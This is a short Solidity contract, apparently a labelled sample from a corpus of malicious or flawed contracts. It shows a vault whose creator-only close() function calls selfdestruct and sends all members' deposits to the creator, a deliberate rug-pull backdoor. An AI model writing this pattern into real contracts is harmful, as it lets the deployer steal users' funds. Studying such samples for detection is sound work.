// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

/// @notice Corpus: a vault its creator can destroy, sending the members' money to himself.
contract KillSwitchVault {
    address public immutable creator;
    mapping(address member => uint256 amount) public balanceOf;

    constructor() {
        creator = msg.sender;
    }

    function deposit() external payable {
        balanceOf[msg.sender] += msg.value;
    }

    function withdraw(uint256 amount) external {
        balanceOf[msg.sender] -= amount;
        payable(msg.sender).transfer(amount);
    }

    function close() external {
        require(msg.sender == creator, "not creator");
        selfdestruct(payable(creator));
    }
}
